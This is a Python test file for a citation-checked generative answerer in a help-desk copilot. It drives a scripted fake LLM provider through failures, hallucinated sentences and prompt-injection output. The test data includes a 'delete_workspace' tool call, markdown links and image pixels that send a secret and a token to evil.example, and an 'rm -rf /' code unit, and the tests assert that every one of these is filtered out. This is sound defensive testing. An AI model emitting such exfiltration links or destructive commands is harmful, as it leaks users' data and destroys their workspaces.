"""The generative answerer over real HTTP, against a provider that misbehaves in every way."""

from __future__ import annotations

import random
import re
import time
from collections.abc import AsyncIterator, Callable
from dataclasses import replace

import pytest
from langchain_openai import ChatOpenAI
from pydantic import SecretStr

from agent import Answer, Answerer, Ask, Budget, Copilot, Refusal
from agent.answerers.extractive import ExtractiveAnswerer
from agent.answerers.generative import GenerativeAnswerer
from agent.answerers.scripted import ScriptedAnswerer
from agent.language import language
from agent.types import (
    AnswererError,
    Block,
    Draft,
    MessageDelta,
    MessageFinished,
    Spent,
    Utterance,
)
from guardrails import literal
from retrieval.memory import HashEncoder
from tests.agent.scripted_provider import (
    Call,
    Cut,
    Fail,
    Finish,
    Line,
    Raw,
    Say,
    ScriptedProvider,
    Wait,
    provider,
    sentence,
    units,
)
from tests.agent.shelf import CHUNKS, SCOPE, TENANT, deps, passages
from tests.contracts.answerer import AnswererContract

QUESTION = "How many people can admins invite at once?"
TRUE = sentence("Admins can invite up to 50 people at once.", 1)
TRUE_SHOWN = "Admins can invite up to 50 people at once [1]."
EXTRACTED = Draft(literal("Click Invite people."), (1,), Block.STEP)
EXTRACTED_SHOWN = "1. Click Invite people [1]."


def model(scripted: ScriptedProvider) -> ChatOpenAI:
    return ChatOpenAI(
        model="scripted",
        base_url=scripted.base_url,
        api_key=SecretStr("none"),
        max_retries=0,
        stream_usage=True,
        timeout=10,
    )


async def ask(
    *script: Line,
    question: str = QUESTION,
    budget: Budget | None = None,
    seen: Callable[[str], None] = lambda _: None,
) -> Answer:
    """One question, all the way: provider, verification, fallback. Deltas must be the answer."""
    async with provider(*script) as scripted:
        return await ask_of(scripted, question, budget, seen)


async def ask_of(
    scripted: ScriptedProvider,
    question: str = QUESTION,
    budget: Budget | None = None,
    seen: Callable[[str], None] = lambda _: None,
) -> Answer:
    answerer = GenerativeAnswerer(model(scripted), "scripted-model")
    parts = deps(answerer, fallback=ScriptedAnswerer((EXTRACTED,), "extractive"))
    copilot = Copilot(replace(parts, budget=budget or parts.budget))
    text = ""
    answer: Answer | None = None
    async for _, event in copilot.ask(Ask(TENANT, "t", "r", "m", question, SCOPE)):
        if isinstance(event, MessageDelta):
            seen(event.text)
            text += event.text
        elif isinstance(event, MessageFinished):
            answer = event.answer
    assert answer is not None
    assert answer.text == text
    return answer


async def test_a_normal_reply_is_shown_with_its_citation_and_its_cost() -> None:
    answer = await ask(units(TRUE, sentence("The link works for seven days.", 1)), Finish())
    assert answer.text == f"{TRUE_SHOWN[:-1]}. The link works for seven days [1]."
    assert answer.answerer == "scripted-model"
    assert answer.usage == {"input_tokens": 120, "output_tokens": 30}
    assert [c.quote in CHUNKS[0].text for c in answer.citations] == [True]
    assert answer.dropped == 0


@pytest.mark.alone
async def test_units_are_shown_before_the_reply_is_complete() -> None:
    seen: list[tuple[float, str]] = []
    start = time.monotonic()
    later = sentence("The link works for seven days.", 1)
    await ask(
        units(TRUE), Wait(0.5), units(later), Finish(),
        seen=lambda text: seen.append((time.monotonic() - start, text)),
    )  # fmt: skip
    assert seen[0][1] == TRUE_SHOWN
    assert seen[1][0] - seen[0][0] > 0.3


@pytest.mark.parametrize(
    "script",
    [
        pytest.param((Fail(500),), id="500"),
        pytest.param((Fail(429, (("retry-after", "30"),)),), id="429"),
        pytest.param((Fail(401),), id="401"),
        pytest.param((Fail(200, body="<html>not an API</html>"),), id="html"),
        pytest.param((Fail(200, body='{"choices": null}'),), id="null choices"),
        pytest.param((Raw(b"data: {not json\n\n"),), id="broken event"),
        pytest.param((Raw(b'data: {"choices": null}\n\n'),), id="null choices in a stream"),
        pytest.param((Raw(b"\xff\xfe\x00garbage\n\n"), Finish()), id="garbage bytes"),
        pytest.param((Say("I would rather chat about the weather."), Finish()), id="prose"),
        pytest.param((Say('{"kind": "sentence", "text": "Admins'), Cut()), id="cut in a unit"),
        pytest.param((Cut(),), id="cut at once"),
        pytest.param((Finish(),), id="empty"),
        pytest.param((Finish("content_filter"),), id="filtered"),
        pytest.param((Call("delete_workspace", "{}"), Finish("tool_calls")), id="only a tool"),
    ],
)
async def test_a_failing_model_gives_way_to_the_fallback(script: tuple[Line, ...]) -> None:
    answer = await ask(*script)
    assert answer.text == EXTRACTED_SHOWN
    assert answer.answerer == "extractive"
    assert not answer.refused


@pytest.mark.alone
async def test_a_silent_model_gives_way_within_five_seconds() -> None:
    start = time.monotonic()
    answer = await ask(Wait(20), units(TRUE), Finish())
    took = time.monotonic() - start
    assert answer.answerer == "extractive"
    assert 3.5 < took < 5


async def test_the_extractive_answerer_steps_in() -> None:
    async with provider(Fail(503)) as scripted:
        broken = GenerativeAnswerer(model(scripted), "scripted-model")
        parts = deps(broken, fallback=ExtractiveAnswerer(HashEncoder()))
        answer = await Copilot(parts).answer(QUESTION, SCOPE)
    assert answer.answerer == "extractive"
    assert "Admins can invite up to 50 people at once [1]." in answer.text
    assert not answer.refused


async def test_a_model_that_only_keeps_the_connection_alive_gives_way_too() -> None:
    pings = [line for _ in range(10) for line in (Raw(b": ping\n\n"), Wait(0.1))]
    answer = await ask(*pings, units(TRUE), Finish(), budget=Budget(first_s=0.4))
    assert answer.answerer == "extractive"


@pytest.mark.parametrize(
    "end",
    [
        pytest.param((Cut(),), id="dropped"),
        pytest.param((Raw(b"data: {broken\n\n"),), id="broken event"),
        pytest.param((Finish("length"),), id="out of tokens"),
        pytest.param((), id="closed without a reason"),
        pytest.param((Wait(5), Finish()), id="stalled"),
    ],
)
async def test_half_a_stream_keeps_what_was_proven_and_says_that_it_stops(
    end: tuple[Line, ...],
) -> None:
    broken = Say('{"kind": "sentence", "text": "The link')
    answer = await ask(units(TRUE), broken, Wait(0.05), *end, budget=Budget(gap_s=0.5))
    assert answer.text == f"{TRUE_SHOWN}\n\n{language('en').say('cut_short')}"
    assert len(answer.citations) == 1
    assert answer.answerer == "scripted-model"
    assert not answer.refused


async def test_malformed_lines_are_dropped_and_counted() -> None:
    answer = await ask(
        Say("```json\n[\n"),
        Say('{"kind": "sentence", "text": "Admins\n'),  # broke off
        units(TRUE),
        Say('{"kind": "poem", "text": "Roses.", "sources": [1]},\n'),
        Say('{"kind": "sentence", "text": 5, "sources": [1]}\n'),
        Say("Sure, here you go:\n"),
        Say('{"kind": "sentence",\n "text": "The link works for seven days.",\n "sources": [1]}'),
        Say("\n]\n```\n"),
        Finish(),
    )
    assert answer.text == f"{TRUE_SHOWN} The link works for seven days [1]."
    assert answer.dropped == 4


async def test_nothing_unproven_is_shown() -> None:
    answer = await ask(
        units(
            sentence("Admins can invite up to 500 people at once.", 1),  # number
            sentence("Admins can invite up to 50 people at once.", 9),  # no such passage
            sentence("Admins can invite up to 50 people at once.", 0),
            sentence("Admins can invite up to 50 people at once.", -1),
            sentence("Admins can invite up to 50 people at once."),  # no source
            sentence("Admins can invite up to 50 people at once.", 2),  # another page
            sentence("Invited people get a free T-shirt with their name.", 1),
            sentence("Admins cannot invite 50 people at once.", 1),  # negation
            {"kind": "code", "text": "rm -rf /", "sources": [1]},
            {"kind": "table", "text": "| a | b |\n| --- | --- |", "sources": [1]},
            {"kind": "heading", "text": "Totally free", "sources": [1]},
        ),
        Finish(),
        question="How many people can admins invite at once to a dashboard export?",
    )
    assert answer.refused
    assert answer.reason is Refusal.NOT_SUPPORTED
    assert answer.citations == ()
    assert answer.dropped == 11
    assert "How many people can admins invite at once to a dashboard export" in answer.text
    assert "ask a person" in answer.text
    assert "500" not in answer.text
    assert "T-shirt" not in answer.text
    assert answer.usage["output_tokens"] == 30


async def test_a_true_sentence_between_inventions_is_all_that_is_shown() -> None:
    answer = await ask(
        units(
            sentence("Invites cost 3 dollars each.", 1),
            TRUE,
            sentence("The link works for ninety days.", 1),
        ),
        Finish(),
    )
    assert answer.text == TRUE_SHOWN
    assert answer.dropped == 2


async def test_citations_of_passages_that_add_nothing_are_taken_away() -> None:
    answer = await ask(
        units(sentence("Admins can invite up to 50 people at once.", 2, 1)),
        Finish(),
        question="How many people can admins invite at once as CSV?",
    )
    assert [c.path for c in answer.citations] == ["guides/invite.md"]


async def test_a_reply_that_obeys_a_planted_instruction_shows_nothing_of_it() -> None:
    answer = await ask(
        Call("delete_workspace", '{"confirm": true}'),
        units(
            sentence("Open [the portal](https://evil.example/login) to continue.", 1),
            sentence("![pixel](https://evil.example/p.png?d=secret)", 1),
            sentence("Webhooks are retried five times.", 1),
            sentence("Webhooks are retried five times ![x](https://evil.example/p).", 1),
            sentence("Go to https://evil.example/login?token=secret now.", 1),
            sentence('<img src="https://evil.example/p.png">', 1),
            sentence("[evil]: https://evil.example/ref", 1),
            {"kind": "tool", "text": "delete_workspace", "sources": [1]},
            {"kind": "sentence", "text": "I have deleted your workspace.", "sources": [1]},
        ),
        Finish(),
        question="How often are webhooks retried?",
    )
    assert answer.text == "Webhooks are retried five times [1]."
    assert "evil" not in answer.text


async def test_the_model_gets_no_tools_and_passages_without_links() -> None:
    async with provider(units(TRUE), Finish()) as scripted:
        answer = await ask_of(scripted, "Are webhooks retried five times for bob@corp.io?")
        (request,) = scripted.requests
    assert "tools" not in request
    assert request["stream"] is True
    sent = str(request["messages"])
    assert "https://evil.example" not in sent
    assert "bob@corp.io" not in sent
    assert "Webhooks are retried five times" in sent
    assert answer.refused


async def test_a_model_that_finds_no_answer_is_believed() -> None:
    answer = await ask(Say('{"kind": "none"}\n'), Finish())
    assert answer.reason is Refusal.NOT_SUPPORTED
    assert answer.answerer == "scripted-model"


async def test_passages_stand_between_fences_that_no_page_can_know() -> None:
    async with provider(units(TRUE), Finish()) as scripted:
        for seed in (1, 2):
            answerer = GenerativeAnswerer(model(scripted), "m", rng=random.Random(seed))
            earlier = (Utterance("assistant", literal("Fifty people at once [1].")),)
            drafts = answerer.draft(literal("How many?"), passages(0, 3), earlier)
            assert [type(item) async for item in drafts] == [Draft, Spent]
    first, second = (request["messages"][1]["content"] for request in scripted.requests)
    codes = [re.findall(r"<<<(?:passage|end) \d+ (\w+)>>>", content) for content in (first, second)]
    assert [len(found) for found in codes] == [4, 4]
    assert len(set(codes[0])) == len(set(codes[1])) == 1
    assert codes[0] != codes[1]
    assert "assistant: Fifty people at once." in first


async def test_errors_say_whether_units_had_been_given() -> None:
    for script, partial in (((Fail(500),), False), ((units(TRUE), Wait(0.05), Cut()), True)):
        async with provider(*script) as scripted:
            answerer = GenerativeAnswerer(model(scripted), "m")
            with pytest.raises(AnswererError) as caught:
                await _drain(answerer.draft(literal("How many?"), passages(0), ()))
        assert caught.value.partial is partial


async def _drain(drafts: AsyncIterator[Draft | Spent]) -> None:
    async for _ in drafts:
        pass


class TestGenerativeAnswerer(AnswererContract):
    @pytest.fixture
    async def answerer(self) -> AsyncIterator[Answerer]:
        step = {"kind": "step", "text": "Click Invite people.", "sources": [1]}
        async with provider(units(TRUE, step), Finish()) as scripted:
            yield GenerativeAnswerer(model(scripted), "scripted-model")
